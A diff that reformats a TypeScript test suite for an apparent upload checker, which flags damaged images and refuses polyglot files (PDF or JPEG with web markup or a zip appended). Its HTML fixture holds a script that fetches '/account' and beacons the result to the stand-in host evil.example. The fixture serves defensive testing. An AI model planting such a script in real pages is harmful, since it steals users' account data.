@@ -25,7 +25,8 @@ const WEBP = fixture('photo.webp');
 const WEBP_LOSSLESS = fixture('photo-lossless.webp');
 const LETTER = fixture('letter.pdf');
 
-const HTML = '<!DOCTYPE html><html><body><script>fetch("/account").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';
+const HTML =
+  '<!DOCTYPE html><html><body><script>fetch("/account").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';
 // The end of a zip archive: a PDF or image with one after it opens as a zip (a "GIFAR").
 const ZIP = join('PK', [3, 4, 20, 0, 0, 0, 0, 0], Array<number>(22).fill(0), 'PK', [5, 6], Array<number>(18).fill(0));
 
@@ -119,7 +120,9 @@ describe('broken structure is damaged', () => {
   });
 
   it('a JPEG scan with no frame header before it', () => {
-    expect(problem(join([0xff, 0xd8], [0xff, 0xda, ...be16(8), 1, 1, 0, 0, 0x3f, 0], [1, 2, 3], [0xff, 0xd9]), 'image/jpeg')).toBe('damaged');
+    expect(problem(join([0xff, 0xd8], [0xff, 0xda, ...be16(8), 1, 1, 0, 0, 0x3f, 0], [1, 2, 3], [0xff, 0xd9]), 'image/jpeg')).toBe(
+      'damaged',
+    );
   });
 
   it('a JPEG of headers only, with no scan', () => {
@@ -203,23 +206,33 @@ describe('polyglots are refused', () => {
 
   it('a PDF that is also a web page: markup in its first comment, or after %%EOF', () => {
     const source = new TextDecoder('latin1').decode(LETTER);
-    expect(problem(text(source.replace('\n', `\n% ${HTML}\n`).replace(/startxref\n(\d+)/, (_, n) => `startxref\n${Number(n) + HTML.length + 3}`)), 'application/pdf')).toBe(
-      'hidden-content',
-    );
+    expect(
+      problem(
+        text(source.replace('\n', `\n% ${HTML}\n`).replace(/startxref\n(\d+)/, (_, n) => `startxref\n${Number(n) + HTML.length + 3}`)),
+        'application/pdf',
+      ),
+    ).toBe('hidden-content');
     expect(problem(join(LETTER, HTML), 'application/pdf')).toBe('hidden-content');
   });
 });
 
 describe('what phones and writers really do is accepted', () => {
   it('keeps a JPEG but not what a phone appends after its end (motion video, gain map)', () => {
-    const video = join(box('ftyp', 'mp42', be32(0), 'isom'), box('mdat', Uint8Array.from({ length: 500 }, (_, i) => (i * 7) % 256)));
+    const video = join(
+      box('ftyp', 'mp42', be32(0), 'isom'),
+      box(
+        'mdat',
+        Uint8Array.from({ length: 500 }, (_, i) => (i * 7) % 256),
+      ),
+    );
     expect(checkStructure(join(JPEG, video), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
     expect(checkStructure(join(JPEG, PROGRESSIVE), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
     expect(checkStructure(join(JPEG, Array<number>(64).fill(0)), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
   });
 
   it('takes XMP metadata (it is XML, not a page) in a JPEG', () => {
-    const xmp = 'http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>';
+    const xmp =
+      'http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>';
     ok(withSegment(JPEG, 0xe1, xmp), 'image/jpeg');
   });
 
@@ -244,7 +257,10 @@ describe('what phones and writers really do is accepted', () => {
 describe('checkUpload gives the seller a reason and stores only the picture', () => {
   it('says a truncated file is damaged, and a polyglot is refused for what it hides', () => {
     expect(checkUpload({ kind: 'v5c', bytes: JPEG.subarray(0, 900) })).toEqual({ ok: false, message: STRUCTURE_MESSAGES.damaged });
-    expect(checkUpload({ slot: 'front-left', bytes: join(JPEG, HTML) })).toEqual({ ok: false, message: STRUCTURE_MESSAGES['hidden-content'] });
+    expect(checkUpload({ slot: 'front-left', bytes: join(JPEG, HTML) })).toEqual({
+      ok: false,
+      message: STRUCTURE_MESSAGES['hidden-content'],
+    });
     expect(checkUpload({ kind: 'finance-settlement-letter', bytes: join(LETTER, ZIP) })).toEqual({
       ok: false,
       message: STRUCTURE_MESSAGES['hidden-content'],
